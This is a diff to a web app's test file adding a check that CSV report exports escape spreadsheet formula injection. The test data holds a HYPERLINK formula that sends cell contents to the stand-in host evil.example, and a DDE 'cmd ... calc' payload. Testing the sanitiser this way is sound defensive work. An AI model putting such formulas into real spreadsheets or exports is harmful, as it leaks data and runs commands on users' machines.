@@ -3,6 +3,7 @@ import { afterAll, beforeAll, expect, test } from 'vitest';
 import { operatorReport } from '../../src/app/reports/reports.ts';
 import type { Database } from '../../src/db/client.ts';
 import { buildApp } from '../../src/web/app.ts';
+import { inertCell } from '../../src/web/shared/csv.ts';
 import { submittedRequest } from '../support/requests.ts';
 import { seededDatabase } from '../support/seeded.ts';
 import { testConfig } from '../support/test-config.ts';
@@ -149,4 +150,21 @@ test('reviewers see the work, not the money', async () => {
   expect(page.body).not.toContain('/staff/reports/money.csv');
   expect((await reviewer.get('/staff/reports/money.csv?from=2026-12-01&to=2026-12-01')).statusCode).toBe(404);
   expect((await reviewer.get('/staff/reports/status.csv?from=2026-12-01&to=2026-12-01')).statusCode).toBe(200);
+});
+
+test('a rejection reason typed as a formula is exported as text, never as a formula (OWASP CSV injection)', async () => {
+  await database.raw.query(
+    `update replacement_requests set rejection_reason = '=HYPERLINK("https://evil.example/?"&A1,"Open")'
+      where rejection_reason = 'Blurry scan'`,
+  );
+  const admin = await staffClient(app, database, 'admin@volna.example');
+  const csv = await admin.get('/staff/reports/rejections.csv?from=2026-12-01&to=2026-12-01');
+  expect(csv.body).toContain(`"'=HYPERLINK(""https://evil.example/?""&A1,""Open"")",1`);
+  for (const lead of ['+', '-', '@', '\t', '\r'])
+    expect(inertCell(`${lead}cmd|' /C calc'!A0`)).toBe(`'${lead}cmd|' /C calc'!A0`);
+  expect(inertCell(-5)).toBe(-5);
+  expect(inertCell('Blurry scan')).toBe('Blurry scan');
+  await database.raw.query(
+    "update replacement_requests set rejection_reason = 'Blurry scan' where rejection_reason like '=HYPERLINK%'",
+  );
 });
